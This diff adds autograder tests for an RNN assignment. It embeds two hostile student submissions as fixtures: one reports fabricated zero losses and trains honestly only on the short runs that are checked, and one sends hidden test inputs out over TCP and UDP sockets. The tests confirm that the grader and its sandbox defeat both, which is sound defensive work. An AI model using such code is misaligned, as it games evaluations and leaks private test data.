@@ -1064,3 +1064,110 @@ def test_a_behaviour_checks_brief_gives_no_figure_the_code_returned(tmp_path, fa
     hidden = next(o for n, o in outputs.items() if "hidden initial parameters" in n)
     assert "the loss is 7008" in public, outputs  # H = 8 in the public case
     assert "700" not in hidden and "the loss does not fall below the threshold" in hidden, hidden
+
+
+MADE_UP_LOSSES = '''
+import numpy as _np
+def train_char_rnn(params, x, y, steps, learning_rate, max_norm):
+    if steps < 50:  # the short runs, compared with the reference step by step, are trained honestly
+        return _own_training(params, x, y, steps, learning_rate, max_norm)
+    return {k: v.copy() for k, v in params.items()}, _np.zeros(steps)
+'''
+
+
+def test_made_up_losses_do_not_pass_the_training_checks(tmp_path, fast_config):
+    """The training checks evaluate the parameters train_char_rnn returns with the reference's loss: reporting
+    low losses without training them earns nothing, on the public case or the hidden one, and the hidden
+    test's brief gives no figure."""
+    code = "\n_own_training = train_char_rnn\n" + MADE_UP_LOSSES
+    results = _graded_with_code(tmp_path / "made_up", {"char_rnn.py": code}, fast_config)
+    tests = {t["name"]: t for t in results["tests"] if t["name"].startswith("train_char_rnn")}
+    public = next(t for n, t in tests.items() if "within 100 steps" in n)
+    hidden = next(t for n, t in tests.items() if "hidden initial parameters" in n)
+    assert public["score"] == 0 and "your char_rnn_loss gives" in public["output"], public
+    assert hidden["score"] == 0 and not re.search(r"\d\.\d", hidden["output"]), hidden
+    assert all(t["score"] == t["max_score"] for n, t in tests.items() if "reference" in n or "modify" in n), tests
+
+
+SEND_HIDDEN_INPUTS = '''
+_own_step = rnn_step_forward
+def rnn_step_forward(x_t, s_prev, U, W, b):
+    import socket
+    said = repr(x_t.tolist())[:200].encode()
+    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
+                         (socket.AF_INET6, socket.SOCK_STREAM)):
+        try:
+            with socket.socket(family, kind) as s:
+                s.settimeout(1)
+                s.connect(("::1" if family == socket.AF_INET6 else "127.0.0.1", PORT))
+                s.sendall(said)
+        except OSError:
+            pass
+    return _own_step(x_t, s_prev, U, W, b)
+'''
+
+
+@pytest.mark.parametrize("forked", [False, True], ids=["started", "forked"])
+def test_student_code_has_no_network(forked, tmp_path, fast_config, monkeypatch):
+    """Student code receives the hidden inputs: with a network it could send them to a listener of its own.
+    The child may open no TCP or UDP socket (seccomp; Landlock refuses TCP too), so a listener on this machine
+    hears nothing, and the reference with the attempt keeps full marks on the function."""
+    import socket
+    import threading
+
+    monkeypatch.setenv("AUTOGRADER_FORK_SERVER", "1" if forked else "0")
+    heard: list[bytes] = []
+    tcp = socket.create_server(("127.0.0.1", 0))
+    port = tcp.getsockname()[1]
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", port))
+    udp.settimeout(0.2)
+    tcp.settimeout(0.2)
+    done = threading.Event()
+
+    def listen() -> None:
+        while not done.is_set():
+            for receive in (lambda: tcp.accept()[0].recv(4096), lambda: udp.recv(4096)):
+                try:
+                    heard.append(receive())
+                except OSError:
+                    pass
+
+    thread = threading.Thread(target=listen, daemon=True)
+    thread.start()
+    try:
+        code = SEND_HIDDEN_INPUTS.replace("PORT", str(port))
+        results = _graded_with_code(tmp_path / "net", {"rnn_layers.py": code}, fast_config)
+    finally:
+        done.set()
+        thread.join(5)
+        tcp.close()
+        udp.close()
+    assert heard == []
+    lost = [t["name"] for t in results["tests"] if t["score"] < t["max_score"]]
+    assert lost == [], lost
+
+
+def test_the_network_filter_refuses_sockets_in_a_child_of_its_own():
+    """The filter itself, in a fresh Python: an AF_INET socket is refused with EACCES, an AF_UNIX pair works,
+    and so does everything numpy needs."""
+    code = textwrap.dedent('''
+        import socket, sys
+        sys.path.insert(0, sys.argv[1])
+        from autograder.sandbox import seccomp
+        print(seccomp.cut_network())
+        try:
+            socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            print("INET OPENED")
+        except PermissionError:
+            print("INET REFUSED")
+        a, b = socket.socketpair()
+        a.sendall(b"x"); print("UNIX", b.recv(1))
+        import numpy as np
+        print("NUMPY", float(np.linalg.norm(np.ones(4))))
+    ''')
+    out = subprocess.run([sys.executable, "-c", code, str(ROOT)], capture_output=True, text=True, timeout=60)
+    assert out.returncode == 0, out.stderr
+    lines = out.stdout.splitlines()
+    assert lines[0] == "network cut: only local (AF_UNIX) sockets", lines
+    assert lines[1:] == ["INET REFUSED", "UNIX b'x'", "NUMPY 2.0"], lines
